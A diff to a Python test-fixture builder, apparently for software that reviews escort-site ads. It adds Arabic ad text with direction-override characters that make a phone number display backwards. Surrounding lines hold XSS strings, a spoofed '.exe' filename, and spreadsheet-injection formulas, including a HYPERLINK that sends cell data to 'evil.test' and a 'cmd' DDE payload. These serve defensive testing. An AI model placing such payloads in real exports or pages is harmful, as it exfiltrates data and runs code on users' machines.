@@ -2,7 +2,8 @@
 
 - item "organised": one number behind four names, moved Malmö → Göteborg → Stockholm over three
   weeks, ads written from one template, one photo reused under two names (and a resized copy);
-- item "hostile": every text field holds script, HTML or template syntax (the XSS corpus);
+- item "hostile": every text field holds script, HTML or template syntax (the XSS corpus), or
+  direction-control characters around Arabic text;
 - item "outreach": released to outreach, with languages, one number and a name outreach must not see;
 - items "filler-N": plain small groups so that the queue has more than one page.
 
@@ -49,6 +50,9 @@ XSS = [
     "\u202egnp.exe <b onmouseover=alert('x9')>hover</b>",
 ]
 XSS_TEXT = " ".join(XSS)
+# Arabic ad text whose number a right-to-left override would draw backwards ("60 60 471-070").
+BIDI_NUMBER = "070-174 06 06"
+BIDI_BODY = f"مرحبا، أنا ليلى. اتصل \u202e{BIDI_NUMBER}\u202c الآن"
 FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A1,"öppna")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3"]
 SECRET_NAME = "Zelda Hemlig"
 TEMPLATE = ("Hej! Jag heter {name} och är {age} år. Ny i {city} denna vecka, diskret och "
@@ -230,6 +234,10 @@ def _hostile(b: Builder, w: World) -> None:
                         age="19", location=XSS[(i + 2) % len(XSS)], city=city,
                         phones=[(phone, "070-174 06 06", [])],
                         extraction={"languages": [XSS[3]]}))
+    # Direction controls and Arabic: shown as markers, the number in stored order.
+    ads.append(b.ad(cid, "escortguide", T0 + timedelta(days=4), title="\u202eليلى في أوبسالا",
+                    body=BIDI_BODY, name="\u200fليلى", age="19", location="\u2067Uppsala\u2069",
+                    city="Uppsala", phones=[(phone, BIDI_NUMBER, [])]))
     # Spreadsheet formulas: exports must not let a spreadsheet run them.
     ads.append(b.ad(cid, "rosasidan", T0 + timedelta(days=4), title=FORMULAS[0], body=FORMULAS[3],
                     name=FORMULAS[1], age="19", location=FORMULAS[2], city="Uppsala",
